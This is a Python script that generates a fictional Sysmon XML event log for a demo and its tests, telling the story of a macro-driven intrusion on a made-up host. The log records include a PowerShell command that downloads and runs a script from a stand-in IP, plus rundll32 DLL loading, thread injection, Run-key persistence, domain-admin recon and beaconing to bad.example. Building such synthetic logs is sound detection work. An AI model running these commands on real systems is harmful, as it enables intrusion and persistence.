#!/usr/bin/env python3
"""Writes demo.xml: Sysmon events of one afternoon on a host that does not exist. Everything in it is made up for
`make demo` and the tests (names from RFC 2606, addresses from RFC 5737, hashes of the words that name the files).

The story: a letter with a macro is opened, the macro starts a shell, that fetches a script, which loads a library
through rundll32, asks DNS for its master, talks to it, injects a thread, and makes itself start at log-on. Around it
the host does what hosts do.

usage: make_demo.py > demo.xml"""
import hashlib
from xml.sax.saxutils import escape

HOST, USER = 'DEMO-PC.corp.example', 'CORP\\anna'
SYSMON = "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>"
VERSION = {1: 5, 3: 5, 5: 3, 7: 3, 8: 2, 10: 3, 11: 2, 12: 2, 13: 2, 15: 2, 16: 3, 17: 1, 22: 5, 23: 5, 4: 3}
START = 13 * 3600 + 5 * 60  # seconds into 2026-11-20
record = 4100
procs = {}


def stamp(t, digits=3):
    h, m, s = int(t) // 3600, int(t) // 60 % 60, t % 60
    return f'2026-11-20 {h:02d}:{m:02d}:{s:0{3 + digits}.{digits}f}'


def guid(n, t):
    if n is None:
        return '{00000000-0000-0000-0000-000000000000}'
    sec = 1795132800 + int(t)  # 2026-11-20 in Unix seconds
    return f'{{d3404000-{sec & 0xffff:04x}-{sec >> 16:04x}-{n:02x}00-000000000100}}'


def hashes(name):
    b = name.lower().encode()
    return (f'SHA1={hashlib.sha1(b).hexdigest()},MD5={hashlib.md5(b).hexdigest()},'
            f'SHA256={hashlib.sha256(b).hexdigest()},IMPHASH={hashlib.md5(b + b"imp").hexdigest()}').upper()


def event(eid, t, data):
    global record
    record += 1
    time = stamp(t + 0.0123456, 7).replace(' ', 'T') + 'Z'
    body = ''.join(f"<Data Name='{k}'>{escape(str(v), {chr(39): '&apos;'})}</Data>" for k, v in data)
    level = 2 if eid == 255 else 4
    print(f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>{SYSMON}<EventID>{eid}</EventID>"
          f"<Version>{VERSION[eid]}</Version><Level>{level}</Level><Task>{eid}</Task><Opcode>0</Opcode>"
          f"<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{time}'/><EventRecordID>{record}</EventRecordID>"
          f"<Correlation/><Execution ProcessID='2748' ThreadID='3912'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>"
          f"<Computer>{HOST}</Computer><Security UserID='S-1-5-18'/></System><EventData>{body}</EventData></Event>")


def who(p):
    return [('ProcessGuid', procs[p]['guid']), ('ProcessId', procs[p]['pid']), ('Image', procs[p]['image'])]


def start(key, t, pid, image, cmd, parent, user=USER, integrity='Medium', cwd='C:\\Users\\anna\\'):
    p = procs.get(parent, {'guid': guid(None, 0), 'pid': 0, 'image': '-', 'cmd': '-', 'user': '-'})
    procs[key] = dict(guid=guid(len(procs) + 1, START + t), pid=pid, image=image, cmd=cmd, user=user)
    name = image.rsplit('\\', 1)[-1]
    event(1, START + t, [('RuleName', '-'), ('UtcTime', stamp(START + t)), ('ProcessGuid', procs[key]['guid']), ('ProcessId', pid),
                         ('Image', image), ('FileVersion', '10.0.19041.1 (made up)'), ('Description', name), ('Product', 'Demo'),
                         ('Company', 'Example'), ('OriginalFileName', name), ('CommandLine', cmd.replace('%', '%%')),
                         ('CurrentDirectory', cwd), ('User', user), ('LogonGuid', '{d3404000-2f00-691e-c7a1-010000000000}'),
                         ('LogonId', '0x1a1c7'), ('TerminalSessionId', 1), ('IntegrityLevel', integrity), ('Hashes', hashes(name)),
                         ('ParentProcessGuid', p['guid']), ('ParentProcessId', p['pid']), ('ParentImage', p['image']),
                         ('ParentCommandLine', p['cmd']), ('ParentUser', p['user'])])


def end(key, t):
    event(5, START + t, [('RuleName', '-'), ('UtcTime', stamp(START + t)), *who(key), ('User', procs[key]['user'])])


def file_created(key, t, path):
    event(11, START + t, [('RuleName', '-'), ('UtcTime', stamp(START + t)), *who(key), ('TargetFilename', path),
                          ('CreationUtcTime', stamp(START + t)), ('User', procs[key]['user'])])


def loaded(key, t, path, signed='true', signer='Example Windows'):
    name = path.rsplit('\\', 1)[-1]
    event(7, START + t, [('RuleName', '-'), ('UtcTime', stamp(START + t)), *who(key), ('ImageLoaded', path), ('FileVersion', '-'),
                         ('Description', '-'), ('Product', '-'), ('Company', '-'), ('OriginalFileName', name), ('Hashes', hashes(name)),
                         ('Signed', signed), ('Signature', signer), ('SignatureStatus', 'Valid' if signed == 'true' else 'Unavailable'),
                         ('User', procs[key]['user'])])


def dns(key, t, name, result, status=0):
    event(22, START + t, [('RuleName', '-'), ('UtcTime', stamp(START + t)), ('ProcessGuid', procs[key]['guid']),
                          ('ProcessId', procs[key]['pid']), ('QueryName', name), ('QueryStatus', status), ('QueryResults', result),
                          ('Image', procs[key]['image']), ('User', procs[key]['user'])])


def connected(key, t, ip, port, host='-'):
    event(3, START + t, [('RuleName', '-'), ('UtcTime', stamp(START + t)), *who(key), ('User', procs[key]['user']), ('Protocol', 'tcp'),
                         ('Initiated', 'true'), ('SourceIsIpv6', 'false'), ('SourceIp', '192.0.2.44'), ('SourceHostname', HOST),
                         ('SourcePort', 50100 + int(t)), ('SourcePortName', '-'), ('DestinationIsIpv6', 'false'), ('DestinationIp', ip),
                         ('DestinationHostname', host), ('DestinationPort', port), ('DestinationPortName', 'https' if port == 443 else '-')])


def registry(key, t, target, details):
    event(13, START + t, [('RuleName', 'T1547.001'), ('EventType', 'SetValue'), ('UtcTime', stamp(START + t)), *who(key),
                          ('TargetObject', target), ('Details', details.replace('%', '%%')), ('User', procs[key]['user'])])


def pair(eid, a, b, t, more):
    g = 'GUID' if eid == 10 else 'Guid'
    event(eid, START + t, [('RuleName', '-'), ('UtcTime', stamp(START + t)), (f'SourceProcess{g}', procs[a]['guid']),
                           ('SourceProcessId', procs[a]['pid']), *([('SourceThreadId', 5120)] if eid == 10 else []),
                           ('SourceImage', procs[a]['image']), (f'TargetProcess{g}', procs[b]['guid']),
                           ('TargetProcessId', procs[b]['pid']), ('TargetImage', procs[b]['image']), *more,
                           ('SourceUser', procs[a]['user']), ('TargetUser', procs[b]['user'])])


S32 = 'C:\\Windows\\System32\\'
print('<!-- Made up: no such host, no such afternoon. Written by make_demo.py. -->')
print('<Events>')
event(4, START - 3600, [('UtcTime', stamp(START - 3600)), ('State', 'Started'), ('Version', '15.15'), ('SchemaVersion', '4.90')])
event(16, START - 3590, [('UtcTime', stamp(START - 3590)), ('Configuration', 'C:\\ProgramData\\haechi\\rules.xml'),
                         ('ConfigurationFileHash', 'SHA256=' + hashlib.sha256(b'demo rules').hexdigest().upper())])
start('explorer', 0, 4312, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', None)
start('svchost', 2, 988, S32 + 'svchost.exe', S32 + 'svchost.exe -k netsvcs -p -s Schedule', None, 'NT AUTHORITY\\SYSTEM', 'System', S32)
start('notepad', 20, 5020, S32 + 'notepad.exe', '"' + S32 + 'notepad.exe" C:\\Users\\anna\\Documents\\list.txt', 'explorer')
end('notepad', 95)
start('outlook', 110, 5588, 'C:\\Program Files\\Office\\OUTLOOK.EXE', '"C:\\Program Files\\Office\\OUTLOOK.EXE"', 'explorer')
dns('outlook', 112, 'mail.corp.example', '::ffff:198.51.100.20;')
connected('outlook', 113, '198.51.100.20', 443, 'mail.corp.example')
file_created('outlook', 140, 'C:\\Users\\anna\\AppData\\Local\\Temp\\Invoice 100% final.docm')
start('word', 150, 6120, 'C:\\Program Files\\Office\\WINWORD.EXE',
      '"C:\\Program Files\\Office\\WINWORD.EXE" /n "C:\\Users\\anna\\AppData\\Local\\Temp\\Invoice 100% final.docm"', 'outlook')
loaded('word', 152, 'C:\\Program Files\\Common Files\\VBA\\VBE7.DLL')
start('cmd', 171, 6344, S32 + 'cmd.exe', 'cmd.exe /c powershell -nop -w hidden -c "iwr http://203.0.113.7/a.ps1 -OutFile %TEMP%\\a.ps1; & %TEMP%\\a.ps1"', 'word')
start('ps', 172, 6388, S32 + 'WindowsPowerShell\\v1.0\\powershell.exe',
      'powershell  -nop -w hidden -c "iwr http://203.0.113.7/a.ps1 -OutFile C:\\Users\\anna\\AppData\\Local\\Temp\\a.ps1; & C:\\Users\\anna\\AppData\\Local\\Temp\\a.ps1"', 'cmd')
loaded('ps', 173, S32 + 'System.Management.Automation.dll')
connected('ps', 174, '203.0.113.7', 80)
file_created('ps', 175, 'C:\\Users\\anna\\AppData\\Local\\Temp\\a.ps1')
file_created('ps', 181, 'C:\\Users\\anna\\AppData\\Roaming\\update.dll')
start('rundll', 183, 6500, S32 + 'rundll32.exe', 'rundll32.exe C:\\Users\\anna\\AppData\\Roaming\\update.dll,Start', 'ps')
loaded('rundll', 184, 'C:\\Users\\anna\\AppData\\Roaming\\update.dll', 'false', '-')
dns('rundll', 186, 'cdn.bad.example', '::ffff:203.0.113.9;')
dns('rundll', 187, 'backup.bad.example', '-', 9003)
connected('rundll', 188, '203.0.113.9', 443, 'cdn.bad.example')
pair(10, 'rundll', 'explorer', 190, [('GrantedAccess', '0x1fffff'), ('CallTrace', S32 + 'ntdll.dll+9d104|UNKNOWN(0000025E7A3B0000)')])
pair(8, 'rundll', 'explorer', 190.5, [('NewThreadId', 7020), ('StartAddress', '0x00000000025E0000'), ('StartModule', '-'), ('StartFunction', '-')])
registry('rundll', 192, 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Update',
         'rundll32.exe %APPDATA%\\update.dll,Start')
event(15, START + 193, [('RuleName', '-'), ('UtcTime', stamp(START + 193)), *who('rundll'),
                        ('TargetFilename', 'C:\\Users\\anna\\AppData\\Roaming\\update.dll:Zone.Identifier'), ('CreationUtcTime', stamp(START + 181)),
                        ('Hash', hashes('zone')), ('Contents', '[ZoneTransfer]  ZoneId=3  HostUrl=http://203.0.113.7/'), ('User', USER)])
event(17, START + 194, [('RuleName', '-'), ('EventType', 'CreatePipe'), ('UtcTime', stamp(START + 194)), ('ProcessGuid', procs['rundll']['guid']),
                        ('ProcessId', procs['rundll']['pid']), ('PipeName', '\\demo-7f3a'), ('Image', procs['rundll']['image']), ('User', USER)])
start('whoami', 196, 6620, S32 + 'whoami.exe', 'whoami /all', 'rundll')
end('whoami', 197)
start('net', 198, 6656, S32 + 'net.exe', 'net group "Domain Admins" /domain', 'rundll')
end('net', 199)
event(23, START + 201, [('RuleName', '-'), ('UtcTime', stamp(START + 201)), ('ProcessGuid', procs['ps']['guid']), ('ProcessId', procs['ps']['pid']),
                        ('User', USER), ('Image', procs['ps']['image']), ('TargetFilename', 'C:\\Users\\anna\\AppData\\Local\\Temp\\a.ps1'),
                        ('Hashes', hashes('a.ps1')), ('IsExecutable', 'false'), ('Archived', 'true')])
end('ps', 202)
end('cmd', 202.2)
for i in range(24):  # the beacon
    connected('rundll', 260 + 60 * i, '203.0.113.9', 443, 'cdn.bad.example')
end('word', 1900)
print('</Events>')
